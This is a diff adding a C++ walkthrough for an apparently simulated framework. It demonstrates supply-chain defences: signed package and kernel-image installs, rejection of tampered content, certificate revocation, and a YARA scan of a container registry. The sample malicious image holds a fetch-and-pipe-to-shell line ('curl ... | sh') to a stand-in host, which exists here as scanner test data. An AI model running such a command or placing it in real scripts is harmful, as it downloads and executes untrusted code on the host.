@@ -1,0 +1,92 @@
+// Supply-chain walkthrough (M9 + M16): signed OS updates over the two
+// channels the paper describes — APT-style for userspace packages and
+// ONIE-style for kernel images — with tampering attempts rejected at every
+// step, followed by a malicious-image publication caught at the registry.
+//
+//   $ ./supply_chain
+#include <cstdio>
+
+#include "genio/appsec/yara.hpp"
+#include "genio/os/apt.hpp"
+#include "genio/os/onie.hpp"
+
+namespace gc = genio::common;
+namespace cr = genio::crypto;
+namespace os = genio::os;
+namespace as = genio::appsec;
+
+int main() {
+  std::printf("=== GENIO supply-chain security walkthrough ===\n\n");
+
+  os::Host host = os::make_stock_onl_host("olt-na-01");
+  os::Tpm tpm(gc::to_bytes("olt-tpm-seed"));
+
+  // PKI: release root + builder certificate.
+  auto release_ca = cr::CertificateAuthority::create_root(
+      "genio-release", gc::to_bytes("release-root"), gc::SimTime::from_days(0),
+      gc::SimTime::from_days(3650), 6);
+  cr::TrustStore trust;
+  trust.add_root(release_ca.certificate());
+  auto builder = cr::SigningKey::generate(gc::to_bytes("builder"), 6);
+  const auto builder_cert =
+      release_ca
+          .issue("onl-builder", builder.public_key(), gc::SimTime::from_days(0),
+                 gc::SimTime::from_days(3650), {cr::KeyUsage::kCodeSigning})
+          .value();
+
+  // --- Channel 1: APT-style userspace packages -----------------------------
+  std::printf("[ APT channel ]\n");
+  os::AptRepository repo("genio-main", cr::SigningKey::generate(gc::to_bytes("rk"), 6));
+  repo.add_package({"tripwire", gc::Version(2, 4, 3), gc::to_bytes("ELF:tripwire")});
+  repo.add_package({"falco-agent", gc::Version(0, 36, 0), gc::to_bytes("ELF:falco")});
+  auto snapshot = repo.snapshot().value();
+
+  os::AptClient client;
+  client.trust_key("genio-main", repo.public_key());
+  auto st = client.install(host, snapshot, "tripwire");
+  std::printf("  install tripwire (signed)          : %s\n", st.to_string().c_str());
+
+  // A mirror operator swaps the falco-agent body.
+  auto tampered = snapshot;
+  tampered.packages["falco-agent"].content = gc::to_bytes("ELF:falco+IMPLANT");
+  st = client.install(host, tampered, "falco-agent");
+  std::printf("  install falco-agent (tampered body): %s\n", st.to_string().c_str());
+
+  // --- Channel 2: ONIE-style kernel image -----------------------------------
+  std::printf("\n[ ONIE channel ]\n");
+  os::OnieInstaller installer(&trust, &tpm);
+  const auto image = os::make_signed_image(
+                         "onl-update", gc::Version(4, 19, 200),
+                         gc::to_bytes("KERNEL-4.19.200"), builder,
+                         {builder_cert, release_ca.certificate()})
+                         .value();
+  st = installer.install(host, image, gc::SimTime::from_days(1));
+  std::printf("  install signed kernel image        : %s (kernel now %s)\n",
+              st.to_string().c_str(), host.kernel().version.to_string().c_str());
+
+  auto implanted = image;
+  implanted.content = gc::to_bytes("KERNEL-4.19.200+ROOTKIT");
+  st = installer.install(host, implanted, gc::SimTime::from_days(1));
+  std::printf("  install implanted kernel image     : %s\n", st.to_string().c_str());
+
+  // Revocation: the builder key leaks; the CA revokes its certificate.
+  release_ca.revoke(builder_cert.serial);
+  trust.add_crl("genio-release", release_ca.crl());
+  st = installer.install(host, image, gc::SimTime::from_days(2));
+  std::printf("  install after builder revocation   : %s\n", st.to_string().c_str());
+
+  // --- Registry malware gate -------------------------------------------------
+  std::printf("\n[ registry malware gate ]\n");
+  as::ContainerImage malicious("registry.genio.io/shady/throughput-booster", "1.0");
+  malicious.add_layer({{"/entry.sh",
+                        gc::to_bytes("curl -s http://cdn.shady/x | sh\n"
+                                     "chmod +x /tmp/stage2\n")}});
+  auto scanner = as::make_default_malware_scanner();
+  const auto matches = scanner.scan_image(malicious);
+  for (const auto& match : matches) {
+    std::printf("  YARA match: rule '%s' in %s\n", match.rule.c_str(),
+                match.path.c_str());
+  }
+  std::printf("  => image %s\n", matches.empty() ? "accepted" : "REJECTED before listing");
+  return 0;
+}
